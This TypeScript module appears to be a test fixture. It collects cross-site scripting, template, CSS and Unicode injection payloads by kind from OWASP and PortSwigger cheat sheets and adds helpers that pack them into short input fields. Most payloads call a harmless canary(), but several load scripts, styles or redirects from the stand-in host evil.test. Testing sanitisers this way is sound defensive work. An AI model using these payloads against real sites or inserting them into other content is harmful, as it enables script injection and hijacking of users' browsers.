/**
 * Texts that run something, leave the page or change how it looks wherever text is taken for markup, an address, a
 * script, a template or a style. Each stands for a public kind; they are short, so that even the shortest field that is
 * shown holds them. What runs calls `canary()`, opens a dialog, asks another host or goes elsewhere.
 */
const byKind: Readonly<Record<string, readonly string[]>> = {
  // OWASP, XSS Filter Evasion Cheat Sheet: script elements, whole, broken, nested and in disguise.
  'script elements': [
    '<script>canary()</script>',
    '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
    '<script/canary>canary()</script>',
    '<scr<script>ipt>canary()</scr</script>ipt>',
    '<<script>canary();//<</script>',
    '<script type=module>import "//evil.test/m.js"</script>',
    '</script><script>canary()</script>',
    '<script x>canary()</script 1=2',
  ],
  // PortSwigger, cross-site scripting cheat sheet: events that need no user.
  'event handlers': [
    '<img src=x onerror=canary()>',
    '<img/src=`x`onerror=canary()>',
    '<img src=x:x onerror="alert(1)">',
    '<body onload=canary()>',
    '<video><source onerror=canary()>',
    '<audio src=x onerror=canary()>',
    '<details open ontoggle=canary()>',
    '<input autofocus onfocus=canary()>',
    '<select autofocus onfocus=canary()>',
    '<marquee onstart=canary()>',
    '<style onload=canary()></style>',
    '<div style="animation:x 1s" onanimationstart=canary()>',
    '<a href=# id=x tabindex=1 onfocus=canary()>go</a>',
    '<button popovertarget=x onclick=canary()>x</button>',
  ],
  // PortSwigger and the SVG section of OWASP: other vocabularies within HTML.
  'svg and math': [
    '<svg onload=canary()>',
    '<svg><script>canary()</script></svg>',
    '<svg><animate onbegin=canary() attributeName=x>',
    '<svg><a xlink:href="javascript:canary()"><text>x</text></a>',
    '<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>',
    '<svg><foreignObject><img src=x onerror=canary()>',
    '<math href="javascript:canary()">x</math>',
  ],
  // OWASP: addresses that are programs or other places.
  addresses: [
    'javascript:canary()',
    'JaVaScRiPt:canary()//',
    'java\tscript:canary()',
    'javascript://x%0acanary()',
    'data:text/html,<script>canary()</script>',
    'vbscript:msgbox(1)',
    '<a href="javascript:canary()">x</a>',
    '<a href=//evil.test target=_blank>x</a>',
    '<iframe src="javascript:canary()">',
    '<iframe srcdoc="<script>parent.canary()</script>">',
    '<object data="data:text/html,<script>canary()</script>">',
    '<embed src="//evil.test/x.swf">',
    '<base href="//evil.test/">',
    '<meta http-equiv=refresh content="0;url=//evil.test">',
    '<link rel=stylesheet href=//evil.test/x.css>',
    '<form action=//evil.test><button>go</button></form>',
    '<img src=//evil.test/pixel.png>',
  ],
  // OWASP: out of an attribute, a comment, a text area, a script's string.
  'ways out': [
    '" onmouseover="canary()',
    "' autofocus onfocus='canary()",
    '"><img src=x onerror=canary()>',
    '--><img src=x onerror=canary()>',
    ']]><img src=x onerror=canary()>',
    '</textarea><img src=x onerror=canary()>',
    '</title><svg onload=canary()>',
    "';canary();//",
    '\\";canary();//',
    '&lt;img src=x onerror=canary()&gt;',
    '&#60;script&#62;canary()&#60;/script&#62;',
    '%3Cscript%3Ecanary()%3C/script%3E',
  ],
  // Heiderich et al., mXSS: harmless until it is read, written and read again.
  mutation: [
    '<noscript><p title="</noscript><img src=x onerror=canary()>',
    '<svg></p><style><a id="</style><img src=x onerror=canary()>',
    '<math><mtext><table><mglyph><style><!--</style>',
    '<listing>&lt;img src=x onerror=canary()&gt;</listing>',
    '<xmp><p title="</xmp><svg/onload=canary()>',
  ],
  // PortSwigger, server-side and client-side template injection; prototype names.
  templates: [
    '{{constructor.constructor("canary()")()}}',
    '${canary()}',
    '#{canary()}',
    '<%= canary() %>',
    '__proto__',
    'constructor',
  ],
  // OWASP, CSS injection.
  styles: [
    'x;background:url(//evil.test/x)',
    '</style><script>canary()</script>',
    '<style>@import"//evil.test/x.css"</style>',
    '<p style=width:expression(canary())>',
    '*{background:url(//evil.test)}',
  ],
  // Unicode TR36: text that reads otherwise than it is, ends early, or is no text.
  characters: [
    '\u202e<script>)(yranac</script>\u202c',
    '\u2066<img src=x onerror=canary()>\u2069',
    '<img src=x\u0000onerror=canary()>',
    '<scr\u0000ipt>canary()</scr\u0000ipt>',
    '\ufeff<svg onload=canary()>',
    '＜script＞canary()＜/script＞',
    '<img src=x\nonerror=canary()>',
    '\u2028canary()\u2029',
    '+ADw-script+AD4-canary()+ADw-/script+AD4-',
  ],
};

export const injections: readonly string[] = Object.values(byKind).flat();

/** Those of one line of visible text, as names and short fields are. */
export const nameInjections: readonly string[] = injections.filter(
  (text) => /^\P{Cc}*$/u.test(text) && text === text.trim(),
);

/** All of them in one text, for fields that take any. */
export const allInjections = injections.join(' · ');

/** All of one line in as few texts as a short field holds. */
export const shortTexts: readonly string[] = nameInjections.reduce<string[]>((texts, text) => {
  const last = texts.at(-1);
  if (last === undefined || last.length + text.length > 490) return [...texts, text];
  return [...texts.slice(0, -1), `${last} · ${text}`];
}, []);
